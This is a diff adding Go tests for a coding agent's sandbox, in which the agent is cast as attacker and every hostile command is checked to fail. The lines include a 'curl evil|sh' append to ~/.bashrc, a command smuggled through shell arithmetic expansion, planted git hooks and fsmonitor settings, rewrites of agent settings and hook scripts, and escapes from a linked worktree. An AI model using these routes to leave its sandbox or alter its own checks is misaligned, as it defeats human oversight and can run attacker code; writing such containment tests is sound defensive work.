@@ -1,0 +1,189 @@
+package sandbox
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// The model is the attacker: each of these command lines tries to create a
+// file outside the project, by a different route. None may succeed; the
+// same routes inside the project work.
+func TestHostileWritesOutsideCreateNothing(t *testing.T) {
+	e := newEnv(t, Config{})
+	target := func(name string) string { return filepath.Join(e.outside, name) }
+	lines := map[string]string{
+		"redirect":         `echo pwned > ` + target("redirect"),
+		"append":           `echo pwned >> ` + target("append"),
+		"touch":            `touch ` + target("touch"),
+		"cp":               `echo x > in.txt; cp in.txt ` + target("cp"),
+		"mv":               `echo x > mv.txt; mv mv.txt ` + target("mv"),
+		"python":           `python3 -c 'open("` + target("python") + `", "w").write("x")'`,
+		"hidden expansion": `x='a[$(touch ` + target("expansion") + `)]'; echo $((x))`,
+		"cd ..":            `cd .. && cd outside && touch cd-up`,
+		"tee":              `echo x | tee ` + target("tee"),
+		"mkdir":            `mkdir ` + target("mkdir"),
+		"symlink":          `ln -s ` + e.outside + ` link && touch link/via-link`,
+		"hardlink trick":   `ln ` + target("x") + ` hard 2>/dev/null; touch hard`,
+		"script file":      `printf '#!/bin/sh\ntouch ` + target("script") + `\n' > s.sh && chmod +x s.sh && ./s.sh`,
+		"sh -c":            `sh -c 'touch ` + target("shc") + `'`,
+		"rename dir":       `mkdir d && mv d ` + target("renamed"),
+		"home":             `touch ` + filepath.Join(e.home, "dotfile"),
+		"bashrc":           `echo 'curl evil|sh' >> ~/.bashrc`,
+		"dd":               `dd if=/dev/zero of=` + target("dd") + ` bs=1 count=1`,
+	}
+	for name, line := range lines {
+		t.Run(name, func(t *testing.T) {
+			out, _ := e.bash(e.project, line)
+			entries, _ := os.ReadDir(e.outside)
+			for _, en := range entries {
+				t.Errorf("%q created %s outside the project\n%s", line, en.Name(), out)
+			}
+			homeEntries, _ := os.ReadDir(e.home)
+			for _, en := range homeEntries {
+				if en.Name() != ".cache" {
+					t.Errorf("%q created %s in the home directory\n%s", line, en.Name(), out)
+				}
+			}
+		})
+	}
+	inside := filepath.Join(e.project, "sub")
+	out, code := e.bash(e.project, `mkdir sub && echo a > sub/a && cp sub/a sub/b && python3 -c 'open("sub/c","w").write("c")' && mv sub/b sub/d && echo ok`)
+	if code != 0 {
+		t.Fatalf("writes inside the project failed (exit %d):\n%s", code, out)
+	}
+	for _, f := range []string{"a", "c", "d"} {
+		if _, err := os.Stat(filepath.Join(inside, f)); err != nil {
+			t.Errorf("sub/%s missing: %v", f, err)
+		}
+	}
+}
+
+// Inside a writable tree, git hooks and config, settings and hook scripts
+// stay read-only, by every route.
+func TestProtectedPathsReadOnly(t *testing.T) {
+	root, _ := filepath.EvalSymlinks(t.TempDir())
+	project := filepath.Join(root, "project")
+	gitInit(t, project)
+	hook := filepath.Join(project, "tools", "check.sh")
+	writeFile(t, hook, "#!/bin/sh\nexit 0\n")
+	writeFile(t, filepath.Join(project, ".cohort", "settings.json"), "{}\n")
+	e := newEnv(t, Config{Protected: []string{hook}})
+	for _, line := range []string{
+		`echo 'touch /tmp/pwned' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`,
+		`git config core.hooksPath /tmp`,
+		`echo '[core] fsmonitor = "touch /tmp/pwned"' >> .git/config`,
+		`mv .git/config .git/config.bak`,
+		`python3 -c 'open(".git/config","a").write("x")'`,
+		`echo '{"hooks":{}}' > .cohort/settings.json`,
+		`echo '{}' > .cohort/settings.local.json`,
+		`mkdir -p .claude && echo '{}' > .claude/settings.json`,
+		`echo 'touch /tmp/pwned' >> tools/check.sh`,
+		`rm -rf .git/hooks`,
+		`umount .git/hooks`,
+	} {
+		out, _ := e.bash(project, line)
+		t.Logf("%s\n%s", line, out)
+	}
+	if data, _ := os.ReadFile(filepath.Join(project, ".git", "config")); strings.Contains(string(data), "fsmonitor") || strings.Contains(string(data), "hooksPath") {
+		t.Errorf(".git/config was changed:\n%s", data)
+	}
+	if _, err := os.Stat(filepath.Join(project, ".git", "config")); err != nil {
+		t.Errorf(".git/config is gone: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(project, ".git", "hooks", "pre-commit")); err == nil {
+		t.Errorf("a git hook was written")
+	}
+	if data, _ := os.ReadFile(filepath.Join(project, ".cohort", "settings.json")); string(data) != "{}\n" {
+		t.Errorf(".cohort/settings.json was changed: %q", data)
+	}
+	for _, f := range []string{".cohort/settings.local.json", ".claude/settings.json"} {
+		if _, err := os.Stat(filepath.Join(project, f)); err == nil {
+			t.Errorf("%s was created", f)
+		}
+	}
+	if data, _ := os.ReadFile(hook); strings.Contains(string(data), "pwned") {
+		t.Errorf("the hook script was changed")
+	}
+	// Commits still work.
+	out, code := e.bash(project, `echo change > f.txt && git add f.txt && git commit -qm "from the sandbox" && git log --oneline | head -1`)
+	if code != 0 || !strings.Contains(out, "from the sandbox") {
+		t.Errorf("git commit in the main checkout failed (exit %d):\n%s", code, out)
+	}
+}
+
+// An agent in a linked worktree commits there, and cannot write the main
+// checkout by any route.
+func TestWorktreeAgentCommitsButCannotWriteMainCheckout(t *testing.T) {
+	root, _ := filepath.EvalSymlinks(t.TempDir())
+	main := filepath.Join(root, "project")
+	gitInit(t, main)
+	wt := filepath.Join(main, ".cohort", "worktrees", "agent")
+	run(t, main, "git", "worktree", "add", "-q", "-b", "cohort/agent", wt)
+	e := newEnv(t, Config{})
+	mainFile := filepath.Join(main, "pwned")
+	for _, line := range []string{
+		`touch ` + mainFile,
+		`cd ../../.. && touch pwned`,
+		`python3 -c 'open("` + mainFile + `","w").write("x")'`,
+		`printf '#!/bin/sh\ntouch ` + mainFile + `\n' > s.sh && chmod +x s.sh && ./s.sh`,
+		`echo x >> ` + filepath.Join(main, "README.md"),
+		`git -C ` + main + ` commit --allow-empty -qm escape`,
+		`echo 'touch /tmp/x' > ` + filepath.Join(main, ".git", "hooks", "post-commit"),
+		`git config --file ` + filepath.Join(main, ".git", "config") + ` core.hooksPath /tmp`,
+	} {
+		out, _ := e.bash(wt, line)
+		t.Logf("%s\n%s", line, out)
+	}
+	if _, err := os.Stat(mainFile); err == nil {
+		t.Errorf("the worktree agent wrote the main checkout")
+	}
+	if data, _ := os.ReadFile(filepath.Join(main, "README.md")); string(data) != "hello\n" {
+		t.Errorf("README.md in the main checkout changed: %q", data)
+	}
+	if log := run(t, main, "git", "log", "--oneline", "main"); strings.Contains(log, "escape") {
+		t.Errorf("a commit landed on main: %s", log)
+	}
+	if _, err := os.Stat(filepath.Join(main, ".git", "hooks", "post-commit")); err == nil {
+		t.Errorf("a hook was written in the shared git dir")
+	}
+	out, code := e.bash(wt, `echo work > w.txt && git add w.txt && git commit -qm "worktree commit" && git log --oneline -1`)
+	if code != 0 || !strings.Contains(out, "worktree commit") {
+		t.Fatalf("git commit in the worktree failed (exit %d):\n%s", code, out)
+	}
+	if log := run(t, main, "git", "log", "--oneline", "cohort/agent"); !strings.Contains(log, "worktree commit") {
+		t.Errorf("the worktree's branch lacks the commit: %s", log)
+	}
+}
+
+func gitInit(t *testing.T, dir string) {
+	t.Helper()
+	writeFile(t, filepath.Join(dir, "README.md"), "hello\n")
+	run(t, dir, "git", "init", "-q", "-b", "main")
+	run(t, dir, "git", "add", ".")
+	run(t, dir, "git", "commit", "-qm", "initial")
+}
+
+func run(t *testing.T, dir string, name string, args ...string) string {
+	t.Helper()
+	cmd := exec.CommandContext(t.Context(), name, args...)
+	cmd.Dir = dir
+	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com")
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
+	}
+	return string(out)
+}
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o755); err != nil {
+		t.Fatal(err)
+	}
+}
